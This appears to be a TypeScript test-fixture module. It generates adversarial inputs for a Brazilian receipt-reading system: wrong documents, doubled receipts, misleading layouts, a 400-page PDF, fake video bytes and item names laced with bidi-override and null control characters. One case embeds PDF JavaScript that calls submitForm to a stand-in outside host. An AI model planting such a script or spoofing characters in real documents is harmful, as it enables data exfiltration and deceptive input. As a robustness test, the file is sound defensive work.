import { foreignReceipt, menu, portrait } from './other-papers.ts'
import { truthOf } from './paper.ts'
import { withScript, writtenPdf } from './pdf-by-hand.ts'
import { danfePaper, type PlannedPaper, receiptPaper, tunedFonts } from './planned-paper.ts'
import { randomOf } from './random.ts'
import { receiptHtml } from './receipt.ts'
import { type Spoiling, spoil, spoilingOf, type Way } from './spoil.ts'

const shown = { fonts: tunedFonts, isCodeCovered: false, isPhoto: true }

/** What comes besides a photograph of one paper, by mistake or on purpose. */
export function hostilePapers(): PlannedPaper[] {
  return [
    pictureOf('menu', menu(), 9001),
    pictureOf('foreign-es', foreignReceipt('es'), 9002),
    pictureOf('foreign-en', foreignReceipt('en'), 9003),
    pictureOf('portrait', portrait(), 9004),
    twoReceipts({ name: 'two-papers', seeds: [9010, 9011], way: 'clean' }),
    twoReceipts({ name: 'two-papers-whatsapp', seeds: [9012, 9013], way: 'whatsapp' }),
    twoReceipts({ name: 'same-paper-twice', seeds: [9014, 9014], way: 'clean' }),
    misleading('misleading', 9020),
    {
      name: 'misleading-pdf',
      write: async (drawing) => {
        const { truth, html } = await misleadingPaper(9021)
        return { name: 'misleading-pdf', file: 'pdf', truths: [truth], bytes: await drawing.pdf(html, 80) }
      },
    },
    {
      name: 'control-signs',
      write: async () => {
        const { truth, text } = controlSigns()
        return { name: 'control-signs', file: 'pdf', truths: [truth], bytes: writtenPdf(text) }
      },
    },
    {
      name: 'four-hundred-pages',
      write: async (drawing) => {
        const { truth, html } = await danfePaper({ ...shown, seed: 9030 })
        const more = Array.from(
          { length: 399 },
          (_, index) => `<section>ANEXO, PÁGINA ${index + 2}</section>`,
        ).join('')
        const bytes = await drawing.pdf(html.replace('</body>', `${more}</body>`), 210)
        return { name: 'four-hundred-pages', file: 'pdf', truths: [truth], bytes }
      },
    },
    {
      name: 'script',
      write: async (drawing) => {
        const { truth, html } = await danfePaper({ ...shown, seed: 9031 })
        const bytes = withScript(
          await drawing.pdf(html, 210),
          'app.alert("Petisco"); this.submitForm("https://elsewhere.example")',
        )
        return { name: 'script', file: 'pdf', truths: [truth], bytes }
      },
    },
    { name: 'video', write: async () => ({ name: 'video', file: 'jpg', truths: [], bytes: videoBytes() }) },
  ]
}

function pictureOf(name: string, html: string, seed: number): PlannedPaper {
  return {
    name,
    write: async (drawing) => {
      const flat = await drawing.picture(html, 16)
      return { name, file: 'jpg', truths: [], bytes: await spoil([flat], spoilingOf('normal', seed), seed) }
    },
  }
}

type Pair = { name: string; seeds: readonly [number, number]; way: Way; but?: Partial<Spoiling> }

/** Two receipts side by side; with one seed twice, the same one twice. */
export function twoReceipts({ name, seeds, way, but }: Pair): PlannedPaper {
  return {
    name,
    write: async (drawing) => {
      const papers = await Promise.all([...new Set(seeds)].map((seed) => receiptPaper({ ...shown, seed })))
      const flats = await Promise.all(papers.map(({ html }) => drawing.picture(html, 20)))
      const both = flats.length === 1 ? [...flats, ...flats] : flats
      const spoiling = { ...spoilingOf(way, seeds[0]), width: 4000, height: 3000, ...but }
      return {
        name,
        file: 'jpg',
        truths: papers.map(({ truth }) => truth),
        bytes: await spoil(both, spoiling, seeds[0]),
      }
    },
  }
}

function misleading(name: string, seed: number): PlannedPaper {
  return {
    name,
    write: async (drawing) => {
      const { truth, html } = await misleadingPaper(seed)
      const bytes = await spoil([await drawing.picture(html, 20)], spoilingOf('clean', seed), seed)
      return { name, file: 'jpg', truths: [truth], bytes }
    },
  }
}

async function misleadingPaper(seed: number) {
  const truth = truthOf(seed, { kind: 'nfce', rows: 4, longestName: 30, codes: 'ean', hasAccents: true })
  const style = {
    widthMm: 80,
    linesPerRow: 2,
    font: tunedFonts.receipt[2] ?? tunedFonts.receipt[0],
    hasAccents: true,
  } as const
  if (!style.font) throw new Error('There is no font')
  return { truth, html: await receiptHtml(truth, { ...style, font: style.font, misleading: true }, seed) }
}

/** Letters from right to left, and signs that turn the direction, hide what follows or end a text. */
function controlSigns() {
  const plain = truthOf(9040, { kind: 'nfce', rows: 3, longestName: 30, codes: 'ean', hasAccents: true })
  const names = [
    'RAÇÃO \u202eGK51\u202c CÃES',
    'طعام القطط 2KG',
    'PETISCO\u0000\u200b\u2066 BIFINHO\u0007 500G',
  ]
  const truth = {
    ...plain,
    rows: plain.rows.map((row, index) => ({ ...row, name: names[index] ?? row.name })),
  }
  const cents = (value: number) => (value / 100).toFixed(2).replace('.', ',')
  const text = [
    truth.issuer.name,
    `CNPJ: ${truth.issuer.id}`,
    ...truth.rows.flatMap(({ ean, name, quantity, unit, unitCents, valueCents, discountCents }, index) => [
      `00${index + 1} ${ean} ${name}`,
      `${String(quantity).replace('.', ',')} ${unit} X ${cents(unitCents)}   ${cents(valueCents)}`,
      ...(discountCents > 0 ? [`desconto item   -${cents(discountCents)}`] : []),
    ]),
    ...(truth.discountCents > 0 ? [`DESCONTO   -${cents(truth.discountCents)}`] : []),
    `VALOR A PAGAR R$   ${cents(truth.totalCents)}`,
    `NFC-e nº ${truth.number.padStart(9, '0')} Série 001 ${truth.issuedOn.split('-').reverse().join('/')} 10:15:00`,
    `${truth.key?.replace(/.{4}(?=.)/g, '$& ')}`,
  ]
  return { truth, text }
}

/** The head of an MP4 file and something that looks like film. */
function videoBytes(): Buffer {
  const random = randomOf(9050)
  const head = Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\x04\x93\xe0mdat', 'latin1')
  return Buffer.concat([head, Buffer.from(Array.from({ length: 300_000 }, () => random.whole(0, 255)))])
}
